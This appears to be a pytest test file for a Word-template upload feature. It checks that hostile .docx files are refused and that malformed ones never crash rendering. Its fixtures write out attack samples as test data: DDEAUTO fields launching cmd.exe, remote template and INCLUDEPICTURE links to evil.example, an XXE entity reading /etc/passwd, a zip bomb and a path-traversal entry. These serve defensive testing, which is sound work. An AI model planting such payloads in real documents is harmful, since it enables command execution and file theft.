# SPDX-License-Identifier: Apache-2.0
"""Word files that come in as templates: hostile ones are refused, odd ones never stop a page (S4-30, corpus U09-U11, E7)."""

from __future__ import annotations

import io
import random
import zipfile
from copy import deepcopy
from pathlib import Path

import pytest
from lxml import etree

from catalog.word_files import altered, upload, word
from mingcha.catalog.actions.templates import upload_template
from mingcha.catalog.models import Template
from mingcha.catalog.papers.filling import fill
from mingcha.catalog.papers.page import MOST_BLOCKS, html_of
from mingcha.catalog.papers.reading import read_template
from mingcha.catalog.papers.variables import stand_ins
from mingcha.files.badinput import BadInput
from mingcha.files.kinds import kind_of
from mingcha.ledger import Invalid, System
from mingcha.organs.testing import Cast

pytestmark = pytest.mark.django_db
BY = System("test")
ROW = [["{{ 当事人.名称 }}", "乙"], ["{% for 人 in 承办人 %}{{ 人.姓名 }}{% endfor %}", "丁"]]


def odd(name: str, before: bytes, after: bytes) -> bytes:
    """A document with something in it that Word puts up with."""
    return altered(word("{{ 当事人.名称 }}", table=ROW, header="x"), swap={f"word/{name}.xml": (before, after)})


def drawn(path: Path, content: bytes) -> str:
    """What a template goes through from its upload to its page."""
    path.write_bytes(content)
    kind_of(path, path.name, ("docx",))
    return html_of(fill(path, stand_ins(read_template(path))))


EXTERNAL = (
    b'<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
RELATIONS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
BEGIN, END = (b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind for kind in (b"begin", b"end"))


def field(*pieces: str, more: bytes = b"") -> bytes:
    """A document with a field whose code comes in these pieces."""
    code = b"".join(b"<w:r><w:instrText>%s</w:instrText></w:r>" % piece.encode() for piece in pieces)
    swap = {"word/document.xml": (b"<w:t>x</w:t>", b"</w:r>" + BEGIN + code + more + END + b"<w:r>")}
    return altered(word("x"), swap=swap)


HOSTILE = {
    "docx_macro-part": lambda: altered(word("x"), put={"word/vbaProject.bin": b"\xd0\xcf"}),
    "docx_macro-type": lambda: altered(
        word("x"),
        swap={
            "[Content_Types].xml": (
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    ),
    "docx_link-template": lambda: altered(
        word("x"), swap={"word/_rels/document.xml.rels": (b"</Relationships>", EXTERNAL)}
    ),
    "docx_object-ole": lambda: altered(word("x"), put={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "docx_field-dde": lambda: altered(
        word("x"),
        swap={"word/document.xml": (b"<w:t>x</w:t>", b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")},
    ),
    "docx_field-split": lambda: field("DD", "EAUTO c:\\\\cmd.exe"),
    "docx_field-quote": lambda: field('QUOTE "x"'),
    "docx_field-sum": lambda: field("= 1 + 1"),
    "docx_field-lower": lambda: field('includepicture "http://evil.example/a.png"'),
    "docx_field-text": lambda: field("PAGE", more=b"<w:r><w:t>DDE x</w:t></w:r>"),
    "docx_field-tag": lambda: field("PAGE {{ 当事人.名称 }}"),
    "docx_field-nested": lambda: field("PAGE ", more=BEGIN + b"<w:r><w:instrText>DATE</w:instrText></w:r>" + END),
    "docx_field-simple": lambda: altered(
        word("x"),
        swap={"word/document.xml": (b"<w:t>x</w:t>", b'</w:r><w:fldSimple w:instr=" LINK x "/><w:r>')},
    ),
    "docx_field-elsewhere": lambda: altered(
        word("x"), put={"other/part.dat": b'\xef\xbb\xbf <a xmlns:w="x"><w:fldSimple w:instr="DDE x"/></a>'}
    ),
    "docx_link-capitals": lambda: altered(word("x"), put={"other/_rels/a.xml.RELS": RELATIONS + EXTERNAL}),
    "docx_link-disguised": lambda: altered(word("x"), put={"word/a.bin": RELATIONS + EXTERNAL}),
    "docx_link-hyperlink": lambda: altered(
        word("x"),
        swap={
            "word/_rels/document.xml.rels": (
                b"</Relationships>",
                EXTERNAL.replace(b"attachedTemplate", b"hyperlink"),
            )
        },
    ),
    "docx_link-unsaid": lambda: altered(
        word("x"),
        swap={"word/_rels/document.xml.rels": (b"</Relationships>", EXTERNAL.replace(b' TargetMode="External"', b""))},
    ),
    "docx_link-merge": lambda: altered(word("x"), put={"word/more.XML": b'<a xmlns:w="x"><w:mailMerge/></a>'}),
    "docx_object-relation": lambda: altered(
        word("x"),
        swap={
            "word/_rels/document.xml.rels": (
                b"</Relationships>",
                EXTERNAL.replace(b"attachedTemplate", b"oleObject")
                .replace(b' TargetMode="External"', b"")
                .replace(b"http://evil.example/", b""),
            )
        },
    ),
    "archive_path-case": lambda: altered(word("x"), put={"word/Document.xml": b"<a/>"}),
    "xml_dtd": lambda: altered(
        word("x"), put={"word/evil.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
    ),
    "archive_bomb": lambda: altered(word("x"), put={"word/media/a.bin": b"\0" * (8 << 20)}),
    "archive_path": lambda: altered(word("x"), put={"../../x": b"x"}),
    "type_mismatch": lambda: b"\xd0\xcf\x11\xe0 old word",
    "file_damaged": lambda: altered(word("x"))[:-40] and altered_without_document(),
    "file_empty": lambda: b"",
}


def altered_without_document() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("a.txt", "x")
    return out.getvalue()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_and_leaves_no_template(cast: Cast, name: str) -> None:
    with pytest.raises(Invalid) as told:
        upload_template(cast.organ("enforcement"), {"key": "甲", "name": "甲"}, upload(HOSTILE[name]()), by=BY)
    assert told.value.faults[0].code == name.split("-", maxsplit=1)[0]
    assert told.value.faults[0].field == "file"
    assert Template.objects.count() == 0


@pytest.mark.parametrize(
    "code", [" PAGE ", "page\\* MERGEFORMAT", 'DATE \\@ "yyyy"', 'TOC \\o "1-3" \\h', 'HYPERLINK \\l "_Toc1" \\h']
)
def test_fields_that_fetch_nothing_may_stand_in_a_template(cast: Cast, code: str) -> None:
    middle = len(code) // 2
    file = upload(field(code[:middle], code[middle:]))
    assert upload_template(cast.organ("enforcement"), {"key": "甲", "name": "甲"}, file, by=BY).edition == 1


def test_another_kind_of_file_is_refused(cast: Cast) -> None:
    with pytest.raises(Invalid, match="不接受"):
        upload_template(cast.organ("enforcement"), {"key": "甲", "name": "甲"}, upload(word("x"), "a.docm"), by=BY)


# --- odd files ------------------------------------------------------------------------------------------------------
ODD = {
    "no styles": lambda: altered(
        word("{{ 当事人.名称 }}"), swap={"word/styles.xml": (b"w:styles", b"w:stiles")}, every=True
    ),
    "a width with a fraction": lambda: odd("document", b'<w:gridCol w:w="', b'<w:gridCol w:w="1234.5" w:x="'),
    "a size that only looks like a digit": lambda: odd(
        "document", b"<w:r><w:t>", '<w:r><w:rPr><w:sz w:val="²"/></w:rPr><w:t>'.encode()
    ),
    "a style without a type": lambda: odd("styles", b'w:type="paragraph"', b""),
    "a style without a name": lambda: odd("styles", b"<w:name ", b"<w:nome "),
    "a huge number": lambda: odd(
        "document", b"<w:r><w:t>", b'<w:r><w:rPr><w:sz w:val="%s"/></w:rPr><w:t>' % (b"9" * 5_000)
    ),
    "a row of fifty thousand cells": lambda: odd("document", b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="50000"/>'),
}


@pytest.mark.parametrize("name", ODD)
def test_an_odd_file_that_word_opens_is_drawn(tmp_path: Path, name: str) -> None:
    assert "示范餐饮店" in drawn(tmp_path / "范本.docx", ODD[name]())


UNREADABLE = {
    "a span that only looks like a digit": lambda: odd(
        "document", b"<w:tcPr>", '<w:tcPr><w:gridSpan w:val="²"/>'.encode()
    ),
    "no body": lambda: altered(word("x"), swap={"word/document.xml": (b"w:body", b"w:boby")}, every=True),
    "no table grid": lambda: altered(
        word("x", table=ROW), swap={"word/document.xml": (b"w:tblGrid>", b"w:tblGitter>")}, every=True
    ),
}


@pytest.mark.parametrize("name", UNREADABLE)
def test_a_file_that_lacks_what_every_document_has_is_refused_in_words(tmp_path: Path, name: str) -> None:
    with pytest.raises(Invalid) as told:
        drawn(tmp_path / "范本.docx", UNREADABLE[name]())
    assert told.value.faults[0].field == "file"


def test_a_document_without_end_is_not_drawn() -> None:
    with pytest.raises(Invalid, match="5000"):
        html_of(word(*["x"] * (MOST_BLOCKS + 1)))
    cell = b"<w:p/>"
    for _level in range(30):
        cell = b"<w:tbl><w:tr><w:tc>" + cell + b"<w:p/></w:tc></w:tr></w:tbl>"
    with pytest.raises(Invalid, match="太深"):
        html_of(altered(word("x"), swap={"word/document.xml": (b"<w:sectPr", cell + b"<w:sectPr")}))


def test_the_page_says_why_a_template_cannot_be_shown(cast: Cast) -> None:
    long = word(*["x"] * (MOST_BLOCKS + 1))
    made = upload_template(cast.organ("enforcement"), {"key": "甲", "name": "甲"}, upload(long), by=BY)
    shown = cast.client(cast.post("filler")).get(f"{made.get_absolute_url()}preview/")
    assert shown.status_code == 422
    assert "不能显示" in shown.content.decode()


STRANGE = ("", "²", "-1", "1234.5", "9" * 400, "x", "{", "true", "〇")


@pytest.mark.parametrize("seed", range(4))
def test_whatever_is_wrong_in_a_file_no_page_stops(tmp_path: Path, seed: int) -> None:
    """Attributes changed, elements taken away or renamed, at random: the file is drawn or refused in words."""
    rest = random.Random(seed)
    for _round in range(12):
        content = mutated(word("{{ 当事人.名称 }}", "甲", table=ROW, header="{{ 机关.名称 }}"), rest)
        try:
            drawn(tmp_path / "范本.docx", content)
        except (Invalid, BadInput):
            continue


def mutated(content: bytes, rest: random.Random) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as was, zipfile.ZipFile(out, "w") as now:
        for member in was.infolist():
            data = was.read(member)
            if member.filename.endswith((".xml", ".rels")) and rest.random() < 0.4:
                root = etree.fromstring(data)
                for _change in range(rest.randrange(1, 4)):
                    change(rest.choice(list(root.iter("{*}*"))), rest)
                data = etree.tostring(root)
            now.writestr(member.filename, data)
    return out.getvalue()


def change(element: etree._Element, rest: random.Random) -> None:
    above, how = element.getparent(), rest.randrange(5)
    if how == 0 and above is not None:
        above.remove(element)
    elif how == 1 and above is not None:
        above.append(deepcopy(element))
    elif how == 2:
        element.tag = f"{element.tag}x"
    elif element.attrib:
        name = rest.choice(list(element.attrib))
        if how == 3:
            del element.attrib[name]
        else:
            element.set(name, rest.choice(STRANGE))
